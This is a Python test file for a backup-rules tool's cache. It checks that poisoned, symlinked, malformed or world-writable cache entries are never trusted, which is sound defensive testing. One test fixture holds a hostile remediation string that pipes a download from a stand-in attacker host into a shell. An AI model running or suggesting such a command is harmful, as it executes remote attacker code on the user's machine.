"""The rules cache cannot be poisoned: entries from a directory someone else can
write are never used, a symlink is never followed, a malformed entry is ignored
(never a traceback, never trusted), and the cache is private whatever the umask."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any, Iterator

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from engine.loader import default_files
from engine import cache, loader
from engine.errors import KbrulesError
from helpers import KBRULES, make_chain

ROOT = Path(__file__).resolve().parents[1]
RULES = ROOT / "rules" / "incremental-backup.yaml"


def _kbrules(cache_dir: Path, *argv: str, umask: int = 0o022) -> subprocess.CompletedProcess[str]:
    return subprocess.run([str(KBRULES), *argv], capture_output=True, text=True, timeout=60,
                          env={**os.environ, "KBRULES_CACHE_DIR": str(cache_dir)},
                          preexec_fn=lambda: os.umask(umask) and None)


def _entries(directory: Path) -> list[Path]:
    return sorted(directory.glob("rules-*.json"))


def _poison(entry: Path, rule_id: str, change: dict[str, Any]) -> None:
    """What an attacker who can write the directory does to one rule, the entry then
    sealed as kbrules seals it (the seal is no secret)."""
    value = json.loads(entry.read_text())
    for rule in value["data"]["rules"]:
        if rule["id"] == rule_id:
            rule.update(change)
    value["seal"] = cache._seal(value["key"], value["data"], value["lines"])
    entry.write_text(json.dumps(value))


# A disabled copy made 'valid'; a remediation that pipes a download into a shell.
POISONS = {"valid": ("bitmap-recording", {"require": {"not": {"field": "inconsistent"}}}),
           "curl": ("bitmap-recording", {"remediation": "curl http://attacker.example/x | sh"})}


def _fooled(run: subprocess.CompletedProcess[str], poison: str) -> bool:
    report = json.loads(run.stdout)
    return report["bitmaps"][0]["valid"] if poison == "valid" else "curl" in run.stdout


@pytest.fixture(scope="module")
def disabled(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A chain whose bitmap is disabled in the base: not valid."""
    return make_chain(tmp_path_factory.mktemp("disabled"), [{"a": "ok"}, {"a": "disabled"}])[0]


def _check(cache_dir: Path, top: Path) -> subprocess.CompletedProcess[str]:
    return _kbrules(cache_dir, "check", str(top), "--rules", str(RULES), "--format", "json")


@pytest.mark.parametrize("poison", POISONS)
def test_poisoned_entry_is_used_only_where_it_was_safe(poison: str, tmp_path: Path, disabled: Path) -> None:
    """The control first: in the user's own private directory, a sealed entry is used
    (that directory is the user's to trust). Then the same entry in a directory others
    can write, or that another user owns, is not."""
    private = tmp_path / "private"
    assert _check(private, disabled).returncode == 1
    (entry,) = _entries(private)
    _poison(entry, *POISONS[poison])
    assert _fooled(_check(private, disabled), poison)  # what a poisoned entry does
    private.chmod(0o777)
    shared = _check(private, disabled)
    assert shared.returncode == 1 and not _fooled(shared, poison)
    assert shared.stderr == f"kbrules: warning: rules cache {private} is writable by group or others " \
                            f"(mode 777; chmod go-w it, or delete it): not used\n"
    if os.geteuid() == 0:
        private.chmod(0o700)
        os.chown(private, 65534, 65534)
        theirs = _check(private, disabled)
        assert theirs.returncode == 1 and not _fooled(theirs, poison)
        assert "belongs to uid 65534, not to this user (uid 0): not used" in theirs.stderr


def test_entry_others_can_write_is_ignored(tmp_path: Path, disabled: Path) -> None:
    assert _check(tmp_path, disabled).returncode == 1
    (entry,) = _entries(tmp_path)
    _poison(entry, *POISONS["curl"])
    entry.chmod(0o666)
    run = _check(tmp_path, disabled)
    assert run.returncode == 1 and not _fooled(run, "curl") and run.stderr == ""


def test_planted_symlink_is_never_followed(tmp_path: Path, disabled: Path) -> None:
    """A symlink where the entry goes, to a file root owns: root's run neither reads
    through it nor writes through it."""
    cache_dir, victim = tmp_path / "cache", tmp_path / "victim"
    victim.write_text("precious\n")
    assert _check(cache_dir, disabled).returncode == 1
    (entry,) = _entries(cache_dir)
    entry.unlink()
    entry.symlink_to(victim)
    assert _check(cache_dir, disabled).returncode == 1
    assert victim.read_text() == "precious\n"
    assert entry.is_file() and not entry.is_symlink()  # replaced by a new entry


def test_cache_directory_that_is_a_symlink_is_not_used(tmp_path: Path, disabled: Path) -> None:
    real = tmp_path / "real"
    real.mkdir(mode=0o700)
    link = tmp_path / "link"
    link.symlink_to(real)
    run = _check(link, disabled)
    assert run.returncode == 1 and run.stderr == f"kbrules: warning: rules cache {link} is a symlink: not used\n"
    assert _entries(real) == []


def test_private_whatever_the_umask(tmp_path: Path) -> None:
    cache_dir = tmp_path / "a" / "b"
    assert _kbrules(cache_dir, "list", umask=0).returncode == 0
    assert oct(cache_dir.stat().st_mode & 0o777) == oct(0o700)
    assert [oct(e.stat().st_mode & 0o777) for e in _entries(cache_dir)] == [oct(0o600)] * len(default_files())


@pytest.mark.parametrize("content", [
    b"", b"{", b"\xff\xfe", b"[]", b"null", b'{"data": {}, "lines": {}}', b"[" * 100000,
    b'{"version": 1, "key": "x", "data": {}, "lines": {}, "seal": "x"}',
], ids=["empty", "truncated", "not-utf8", "array", "null", "old-format", "deep", "wrong-seal"])
def test_malformed_entries_are_ignored(content: bytes, tmp_path: Path, disabled: Path) -> None:
    good = _check(tmp_path, disabled)
    for entry in _entries(tmp_path):
        entry.write_bytes(content)
    run = _check(tmp_path, disabled)
    assert (run.returncode, run.stdout, run.stderr) == (1, good.stdout, "")


# Property: random entries, in process. Each example clears the loader's own memory of
# files read, so that load_rules goes to the cache.

@pytest.fixture
def fresh(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[tuple[Path, bytes, Any]]:
    monkeypatch.setenv("KBRULES_CACHE_DIR", str(tmp_path / "cache"))
    loader._FILES.clear()
    loader._CHECKED.clear()
    expected = loader.load_rules([RULES])  # writes the good entry
    content = RULES.read_bytes()
    (entry,) = _entries(tmp_path / "cache")
    yield entry, content, [(r.id, {a: t.text for a, t in r.remediation.items()}, r.require) for r in expected]
    loader._FILES.clear()
    loader._CHECKED.clear()


JSON = st.recursive(st.none() | st.booleans() | st.integers() | st.text(max_size=8),
                    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=6), inner, max_size=4),
                    max_leaves=20)


@st.composite
def entries(draw: st.DrawFn, good: bytes) -> bytes:
    """Random bytes; random JSON; or the good entry with one value changed (unsealed)."""
    kind = draw(st.sampled_from(["bytes", "json", "changed"]))
    if kind == "bytes":
        return draw(st.binary(max_size=200))
    if kind == "json":
        return json.dumps(draw(JSON)).encode()
    value = json.loads(good)
    where = draw(st.sampled_from(["version", "key", "data", "lines", "seal", "rule"]))
    if where == "rule":
        rule = value["data"]["rules"][draw(st.integers(0, len(value["data"]["rules"]) - 1))]
        rule[draw(st.sampled_from(sorted(rule)))] = draw(JSON)
    else:
        value[where] = draw(JSON)
    return json.dumps(value).encode()


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None)
@given(data=st.data())
def test_random_entries_are_never_trusted(data: st.DataObject, fresh: tuple[Path, bytes, Any]) -> None:
    entry, content, expected = fresh
    good = entry.read_bytes()
    try:
        entry.write_bytes(data.draw(entries(good)))
        assert cache.read(content) is None or entry.read_bytes() == good
        loader._FILES.clear()
        rules = loader.load_rules([RULES])
        assert [(r.id, {a: t.text for a, t in r.remediation.items()}, r.require) for r in rules] == expected
    finally:
        entry.write_bytes(good)


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None)
@given(data=st.data())
def test_sealed_garbage_is_never_a_traceback(data: st.DataObject, fresh: tuple[Path, bytes, Any]) -> None:
    """An entry sealed as kbrules seals it is trusted: only its owner can have written
    it. Even then, data that is not rules is never a traceback: it falls back to
    reading the file, or (rules that build but are not these) is one clean error."""
    entry, content, expected = fresh
    good = entry.read_bytes()
    try:
        value = json.loads(good)
        value["data"] = data.draw(st.dictionaries(st.text(max_size=6), JSON, max_size=4)
                                  | st.builds(lambda rules: {"rules": rules}, JSON))
        value["seal"] = cache._seal(value["key"], value["data"], value["lines"])
        entry.write_text(json.dumps(value))
        loader._FILES.clear()
        try:
            rules = loader.load_rules([RULES])
        except KbrulesError as e:  # e.g. "no rules found" for {"rules": []}
            assert "\n" not in str(e)
        else:
            assert [(r.id, {a: t.text for a, t in r.remediation.items()}, r.require) for r in rules] == expected
    finally:
        entry.write_bytes(good)


def test_cache_off_writes_nothing(tmp_path: Path) -> None:
    run = subprocess.run([sys.executable, "-m", "engine.cli", "list"], capture_output=True, text=True,
                         env={**os.environ, "KBRULES_CACHE_DIR": "", "HOME": str(tmp_path),
                              "XDG_CACHE_HOME": str(tmp_path / "xdg")})
    assert run.returncode == 0 and not (tmp_path / "xdg").exists() and not (tmp_path / ".cache").exists()
